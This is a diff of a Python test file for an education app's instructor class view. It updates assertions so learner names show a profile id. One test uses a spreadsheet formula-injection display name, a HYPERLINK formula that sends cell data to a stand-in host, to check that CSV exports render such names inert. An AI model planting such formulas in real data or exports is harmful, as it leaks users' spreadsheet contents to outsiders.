@@ -139,7 +139,7 @@ def test_a_forged_import_is_marked_on_the_dashboard_and_left_out_of_the_class(st
     table = next(d.value for d in at.dataframe if "Where" in d.value.columns)
     assert sorted(table["Where"]) == ["Practice"] + ["Practice (imported)"] * 5
     lee = shell(LEE, "class_view")
-    row = lee.dataframe[0].value.set_index("Learner").loc["Ada"]
+    row = lee.dataframe[0].value.set_index("Learner").loc[f"Ada · #{ada}"]
     assert (row["First tries"], row["Accuracy"]) == (1, "0%")
 
 
@@ -160,11 +160,11 @@ def test_an_instructor_can_turn_importing_off(store, allowed):
 def test_a_display_name_that_is_a_formula_is_drawn_inert(store):
     # The provider's `name` claim, which some providers let a user edit.
     evil = '=HYPERLINK("http://evil.test/?"&A1,"Ada")'
-    _with_attempts(store, {**BO, "name": evil}, 1)
+    bo = _with_attempts(store, {**BO, "name": evil}, 1)
     at = shell(LEE, "class_view")
     for table in at.dataframe:  # what the toolbar's CSV download writes
         names = list(table.value["Learner"])
-        assert f"'{evil}" in names and evil not in names
+        assert f"'{evil} · #{bo}" in names and not any(n.startswith("=") for n in names)
 
 
 def test_a_learner_never_sees_a_traceback(store, monkeypatch):
@@ -206,7 +206,9 @@ def test_an_instructor_sees_the_class(store, instructor):
     at = shell(instructor, "class_view")
     assert at.title[0].value == "Class"
     table = at.dataframe[0].value
-    assert "Ada" in set(table["Learner"]) and at.metric[0].value == str(len(store.list_profiles()))
+    ada = _own(store, ADA)
+    # Ada (no verified address: told apart by her profile's id); the instructor is not a learner
+    assert set(table["Learner"]) == {f"Ada · #{ada}"} and at.metric[0].value == "1"
     assert "Instructor" in [t.value for t in at.sidebar.caption]
 
 
@@ -308,7 +310,8 @@ def test_the_class_page_shows_names_titles_and_no_data_marks(store, lang):
         cells = table.astype(object).to_numpy().ravel()
         assert not any(c is None or c != c or str(c) == "None" for c in cells)  # no None, no NaN
     by_name = learners.set_index(t("classview.col.learner", lang))
-    bo, ada_row = by_name.loc["Bo"], by_name.loc["Ada"]
+    bo_id = _own(store, BO)
+    bo, ada_row = by_name.loc[f"Bo · #{bo_id}"], by_name.loc[f"Ada · #{ada}"]
     assert bo[t("classview.col.accuracy", lang)] == "—"
     assert bo[t("classview.col.last_active", lang)] == "—"
     assert ada_row[t("classview.col.accuracy", lang)] == "0%"
@@ -323,9 +326,9 @@ def test_the_class_page_shows_names_titles_and_no_data_marks(store, lang):
     assert list(mastery.columns) == [t("classview.col.learner", lang),
                                      *(t(f"practice.topic.{tp}", lang) for tp in topics)]
     rows = mastery.set_index(t("classview.col.learner", lang))
-    assert set(rows.loc["Bo"]) == {"—"}
+    assert set(rows.loc[f"Bo · #{bo_id}"]) == {"—"}
     ada_topic = t(f"practice.topic.{catalog[STUCK_QUESTIONS[0]].topic}", lang)
-    assert rows.loc["Ada", ada_topic] == "0%"
+    assert rows.loc[f"Ada · #{ada}", ada_topic] == "0%"
 
 
 @pytest.mark.parametrize("lang", ["en", "zh"])
@@ -343,15 +346,15 @@ def test_the_class_page_follows_each_new_attempt(store):
     # the number of attempts and the last id are as before (a cache keyed on them went stale).
     ada = _own(store, ADA)
     at = shell(LEE, "class_view")
-    first_tries = "First tries"
-    assert at.dataframe[0].value.set_index("Learner").loc["Ada", first_tries] == 0
+    first_tries, shown = "First tries", f"Ada · #{ada}"
+    assert at.dataframe[0].value.set_index("Learner").loc[shown, first_tries] == 0
     store.record_attempt(ada, NewAttempt("basics-residual-block-form", "correct", score=1.0))
     at.run()
-    assert at.dataframe[0].value.set_index("Learner").loc["Ada", first_tries] == 1
+    assert at.dataframe[0].value.set_index("Learner").loc[shown, first_tries] == 1
     other = export_json(store, ada)
     store.delete_profile(ada)
     import_json(store, other, new_profile_name="Ada again")
     at.run()
     table = at.dataframe[0].value.set_index("Learner")
-    assert "Ada" not in table.index  # a stale cache would still show her
+    assert shown not in table.index  # a stale cache would still show her
     assert table.loc["Ada again", first_tries] == 0  # imported: left out of the class's record
